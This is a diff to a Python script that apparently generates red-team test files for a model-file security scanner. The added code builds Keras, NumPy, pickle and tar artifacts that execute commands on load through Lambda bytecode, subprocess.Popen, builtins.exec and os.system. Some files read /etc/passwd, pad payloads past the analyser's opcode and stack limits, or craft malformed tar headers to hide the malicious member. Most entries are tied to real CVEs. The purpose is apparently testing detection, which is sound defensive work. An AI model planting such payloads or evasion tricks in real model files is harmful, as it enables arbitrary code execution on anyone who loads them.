@@ -15,7 +15,9 @@ import modules or load another pickle, called directly or through allowlisted he
 Container formats beyond the standard library (the nullifAI technique's 7z archives, LZ4 frames as joblib
 writes them, Zstandard) come from the `7z` tool and the lz4 and zstandard modules.
 
-Run: /usr/bin/python3 scripts/artifacts/gen-redteam.py   (Debian: p7zip-full python3-lz4 python3-zstandard)
+The Keras files (legacy .h5 models, .keras archives) are written with h5py by keras_files.py.
+
+Run: /usr/bin/python3 scripts/artifacts/gen-redteam.py   (Debian: p7zip-full python3-lz4 python3-zstandard python3-h5py)
 """
 import bz2
 import gzip
@@ -459,6 +461,8 @@ def build():
     attack("nemo-xz.nemo", tar({"model_config.yaml": b"name: x\n", "model_weights.ckpt": torch_zip(evil)}, "w:xz"), "NeMo tar.xz with a checkpoint")
 
     round_2026(evil)
+    round_s20()
+    round_s20_tar(evil)
 
 
 def joblib_array_header(dtype, shape):
@@ -613,6 +617,100 @@ def round_2026(evil):
     attack("r26-torch-legacy-tar-pax.tar", pax.getvalue(), f"{src}: legacy torch tar with PAX headers")
     attack("r26-nemo-bz2.nemo", tar({"model_config.yaml": b"name: x\n", "model_weights.ckpt": torch_zip(evil)}, "w:bz2"), f"{src}: NeMo tar.bz2 with a checkpoint")
     attack("r26-npz-zip64.npz", (lambda b: (b, b.getvalue())[1])(_npz64(npy_object(evil))), f"{src}: npz member with zip64 extra fields")
+
+
+def round_s20():
+    """Session 20: Keras model configurations (which no pickle reader sees) and payloads past the analyser's limits."""
+    import keras_files as k  # h5py: only this round needs it
+    src = "s20"
+    code2 = [k.lambda_bytecode(), None, None]
+    attack("s20-keras2-lambda.h5", k.h5_model(k.sequential2([k.dense2("dense", 4), k.lambda2(code2)])),
+           f"{src}: legacy .h5 with a Lambda layer's marshalled bytecode (CVE-2024-3660, CVE-2025-9905; modelscan H5LambdaDetectScan)")
+    attack("s20-keras2-lambda-string.h5", k.h5_model(k.sequential2([k.lambda2(k.lambda_bytecode())])),
+           f"{src}: Lambda bytecode as one base64 string (older Keras 2)")
+    attack("s20-keras2-lambda-vlen-userblock.h5", k.h5_model(k.sequential2([k.lambda2(code2)]), variable_length=True, userblock=512),
+           f"{src}: model_config as a variable-length string (global heap), superblock after a 512-byte user block")
+    attack("s20-keras2-lambda-function-os.h5", k.h5_model(k.sequential2([k.lambda2("system", "function", "os")])),
+           f"{src}: Lambda naming os.system by module and function (Keras 2 looks it up in sys.modules)")
+    attack("s20-savedmodel-lambda-keras_metadata.pb", k.keras_metadata(k.sequential2([k.dense2("dense", 4), k.lambda2(code2)])),
+           f"{src}: a TensorFlow SavedModel's keras_metadata.pb with a Lambda layer's bytecode (modelscan SavedModelLambdaDetectScan)")
+    attack("s20-keras3-lambda.keras", k.keras_archive(k.sequential3([k.dense3("dense", 4), k.lambda3(k.lambda3_bytecode())])),
+           f"{src}: .keras config.json with a __lambda__ function (runs with safe_mode=False)")
+    attack("s20-keras3-module-popen.keras", k.keras_archive(k.sequential3([k.keras_object("subprocess", "Popen", {"args": ["sh", "-c", CMD]})])),
+           f"{src}: config.json naming subprocess.Popen as a layer class (CVE-2025-1550, GHSA-48g7-3x6r-xfhp)")
+    attack("s20-keras3-function-exec.keras", k.keras_archive(k.sequential3([k.lambda3(k.function_reference("builtins", "exec"))])),
+           f"{src}: a Lambda whose function is builtins.exec by reference (CVE-2025-1550)")
+    attack("s20-keras3-unsafe-toggle.keras", k.keras_archive(k.sequential3([k.function_reference("keras.config", "enable_unsafe_deserialization"),
+                                                                             k.lambda3(k.lambda3_bytecode())])),
+           f"{src}: keras.config.enable_unsafe_deserialization before a Lambda (CVE-2025-9906)")
+    attack("s20-keras3-get-file.keras", k.keras_archive(k.sequential3([k.lambda3(k.function_reference("keras.utils", "get_file"))])),
+           f"{src}: keras.utils.get_file as a gadget inside Keras' own namespace (CVE-2025-8747)")
+    attack("s20-keras3-vocabulary-file.keras", k.keras_archive(k.sequential3([k.keras_object("keras.layers", "StringLookup", {"name": "lookup", "vocabulary": "/etc/passwd"})])),
+           f"{src}: StringLookup reading its vocabulary from a path the config chooses (CVE-2025-12058)")
+    attack("s20-npy-subarray-object.npy", npy_object(evil_npy := simple("os", "system", CMD, proto=2), "('|O', (2,))"),
+           f"{src}: .npy whose descr is a subarray of objects (numpy's descr_to_dtype takes a (base, shape) tuple)")
+    attack("s20-npy-unicode-literal-descr.npy", npy_object(evil_npy, "u'|O'"), f"{src}: .npy descr written as a u'' literal (literal_eval reads it as '|O')")
+    attack("s20-keras3-lambda-renamed.bin", k.keras_archive(k.sequential3([k.lambda3(k.lambda3_bytecode())])),
+           f"{src}: a .keras archive under another name (load_model sniffs the zip)")
+    unlisted = ("_aix_support", "_read_cmd_output")
+    tail = P(2).call(*unlisted, CMD).stop().bytes()[2:]
+    attack("s20-none-pop-past-opcode-limit.pkl.gz", gzip.compress(b"\x80\x02" + b"N0" * 2_600_000 + tail, 9, mtime=0),
+           f"{src}: 5.2 million NONE/POP opcodes, past the analyser's opcode limit, before the payload (gzip keeps the file small)")
+    attack("s20-pushes-past-stack-limit.pkl", b"\x80\x02" + b"N" * 100_001 + tail, f"{src}: 100 001 pushes, past the analyser's stack limit, before the payload")
+    names = P(4).s("posix").raw(b"\x94").s("system").raw(b"\x94").raw(b"00").bytes()
+    attack("s20-memoized-names-past-limit.pkl.gz", gzip.compress(names + b"N0" * 2_600_000 + b"h\x00h\x01\x93(\x8c\x02idtR.", 9, mtime=0),
+           f"{src}: module and name memoized before the opcode limit, STACK_GLOBAL of their BINGETs after it")
+    attack("s20-protocol0-past-opcode-limit.p0.pkl.gz", gzip.compress(b"I1\n0" * 2_600_000 + b"cposix\nsystem\n(S'id'\ntR.", 9, mtime=0),
+           f"{src}: protocol 0 (no PROTO header) padded past the opcode limit")
+
+
+def round_s20_tar(evil):
+    """Legacy torch tars whose `pickle` member only Python's tarfile finds (torch.load reads it with extractfile)."""
+    src = "s20"
+    benign = P(2).raw(b"}").stop().bytes()
+    empty = P(2).raw(b"]").stop().bytes()
+
+    def header(name, size, typeflag=b"0"):
+        h = bytearray(512)
+        h[: len(name)] = name.encode()
+        h[100:108] = b"0000644\0"
+        h[108:116] = b"0000000\0"
+        h[116:124] = b"0000000\0"
+        h[124:136] = b"%011o\0" % size
+        h[136:148] = b"00000000000\0"
+        h[156:157] = typeflag
+        h[257:265] = b"ustar\x0000"
+        h[148:156] = b" " * 8
+        h[148:156] = b"%06o\0 " % sum(h)
+        return bytes(h)
+
+    def member(name, data, typeflag=b"0"):
+        return header(name, len(data), typeflag) + data + b"\0" * (-len(data) % 512)
+
+    def legacy(pickle_part):
+        return member("sys_info", benign) + pickle_part + member("storages", empty) + member("tensors", empty) + b"\0" * 1024
+
+    def pax_record(key, value):
+        text = f" {key}={value}\n".encode()
+        n = len(text) + 1
+        while len(str(n)) + len(text) != n:
+            n = len(str(n)) + len(text)
+        return str(n).encode() + text
+
+    attack("s20-tar-unknown-type.tar", legacy(member("pickle", evil, b"Z")),
+           f"{src}: `pickle` member with an unknown type flag: tarfile reads unknown types as regular files")
+    attack("s20-tar-type-9.tar", legacy(member("pickle", evil, b"9")), f"{src}: `pickle` member with type flag 9 (not a tarfile type)")
+    pax = pax_record("size", len(evil))
+    attack("s20-tar-pax-size.tar", legacy(member("././@PaxHeader", pax, b"x") + header("pickle", 0) + evil + b"\0" * (-len(evil) % 512)),
+           f"{src}: header size 0, the real size in a pax `size` record (tarfile honours it)")
+    signed = bytearray(member("pickle", evil))
+    signed[265:268] = b"\xe9\xe9\xe9"  # owner name bytes above 0x7f: the signed and unsigned sums differ
+    signed[148:156] = b" " * 8
+    signed[148:156] = b"%06o\0 " % sum(b - 256 if b > 127 else b for b in signed[:512])
+    attack("s20-tar-signed-checksum.tar", legacy(bytes(signed)), f"{src}: `pickle` member whose header checksum is the signed sum (tarfile accepts both)")
+    hidden = member("pickle", evil)
+    attack("s20-tar-directory-size-hides-member.tar", legacy(header("data/", len(hidden), b"5") + hidden),
+           f"{src}: a directory entry whose size field covers the `pickle` member's header: tarfile skips no data after a directory")
 
 
 def _npz64(member):
